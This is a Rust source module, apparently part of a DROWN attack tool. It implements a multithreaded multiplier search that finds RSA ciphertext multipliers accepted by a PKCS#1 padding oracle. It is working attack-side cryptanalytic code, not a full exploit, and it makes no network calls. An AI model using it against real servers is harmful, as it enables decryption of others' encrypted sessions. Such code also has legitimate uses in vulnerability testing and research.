// Parallel multiplier search for Step 2
//
// Looks for an odd multiplier s such that known_plaintext * s mod N starts
// with 00 02 and the correspondingly scaled ciphertext is accepted by the
// oracle. The filter loop is purely offline; only filter hits cost an oracle
// query.

use super::bigint::{byte_len, has_pkcs_prefix, pow2, to_fixed_bytes};
use super::capability::Pkcs1Oracle;
use super::rsa::RsaPublicContext;
use crate::error::DrownError;
use crate::Result;
use num_bigint::BigUint;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::sync::mpsc;
use std::thread;
use tracing::{debug, warn};

enum WorkerMessage {
    Found(BigUint),
    Exhausted,
    Failed(DrownError),
}

/// First-success-wins multiplier search over disjoint candidate sequences
pub struct MultiplierSearch<'a, O: Pkcs1Oracle + ?Sized> {
    oracle: &'a O,
    rsa: &'a RsaPublicContext,
    workers: usize,
    bound: BigUint,
    // One slot per worker, written only by that worker
    queries: Vec<AtomicU64>,
}

impl<'a, O: Pkcs1Oracle + ?Sized> MultiplierSearch<'a, O> {
    /// `max_multiplier_bits` bounds candidates by 2^bits mod N
    pub fn new(
        oracle: &'a O,
        rsa: &'a RsaPublicContext,
        workers: usize,
        max_multiplier_bits: u32,
    ) -> Self {
        let bound = pow2(max_multiplier_bits as usize) % &rsa.modulus;
        let workers = workers.max(1);
        Self {
            oracle,
            rsa,
            workers,
            bound,
            queries: (0..workers).map(|_| AtomicU64::new(0)).collect(),
        }
    }

    pub fn workers(&self) -> usize {
        self.workers
    }

    /// Oracle queries issued by all searches so far, summed over workers
    pub fn queries(&self) -> u64 {
        self.queries
            .iter()
            .map(|counter| counter.load(Ordering::Relaxed))
            .sum()
    }

    /// Search for a multiplier; `Ok(None)` when every worker passed the
    /// bound without a hit.
    pub fn find(&self, known_plaintext: &BigUint, ciphertext: &BigUint) -> Result<Option<BigUint>> {
        let cancel = AtomicBool::new(false);
        let (tx, rx) = mpsc::channel();

        thread::scope(|scope| {
            for index in 0..self.workers {
                let tx = tx.clone();
                let cancel = &cancel;
                scope.spawn(move || {
                    let message = self.run_worker(index, known_plaintext, ciphertext, cancel);
                    // Receiver only hangs up after a winner was chosen
                    let _ = tx.send(message);
                });
            }
            drop(tx);

            let mut outcome = Ok(None);
            for message in rx.iter() {
                match message {
                    WorkerMessage::Found(multiplier) => {
                        cancel.store(true, Ordering::Relaxed);
                        outcome = Ok(Some(multiplier));
                        break;
                    }
                    WorkerMessage::Failed(err) => {
                        cancel.store(true, Ordering::Relaxed);
                        outcome = Err(err);
                        break;
                    }
                    WorkerMessage::Exhausted => {}
                }
            }
            outcome
        })
    }

    fn run_worker(
        &self,
        index: usize,
        known_plaintext: &BigUint,
        ciphertext: &BigUint,
        cancel: &AtomicBool,
    ) -> WorkerMessage {
        let modulus = &self.rsa.modulus;
        let len_n = self.rsa.pkcs_len();
        let stride = BigUint::from(2 * self.workers as u64);
        let mut candidate = BigUint::from(1 + 2 * index as u64);

        while candidate <= self.bound {
            if cancel.load(Ordering::Relaxed) {
                return WorkerMessage::Exhausted;
            }

            let scaled = known_plaintext * &candidate % modulus;
            if byte_len(&scaled) <= len_n && has_pkcs_prefix(&to_fixed_bytes(&scaled, len_n)) {
                if cancel.load(Ordering::Relaxed) {
                    return WorkerMessage::Exhausted;
                }

                let scaled_ciphertext = self.rsa.encrypt_raw(&candidate) * ciphertext % modulus;
                self.queries[index].fetch_add(1, Ordering::Relaxed);
                match self
                    .oracle
                    .check_pkcs_conformity(&self.rsa.encode(&scaled_ciphertext))
                {
                    Ok(true) => {
                        cancel.store(true, Ordering::Relaxed);
                        debug!("Worker {} found multiplier {}", index, candidate);
                        return WorkerMessage::Found(candidate);
                    }
                    Ok(false) => {}
                    Err(err) => {
                        warn!("Oracle query failed in multiplier worker {}: {}", index, err);
                        cancel.store(true, Ordering::Relaxed);
                        return WorkerMessage::Failed(err);
                    }
                }
            }

            candidate += &stride;
        }

        WorkerMessage::Exhausted
    }
}
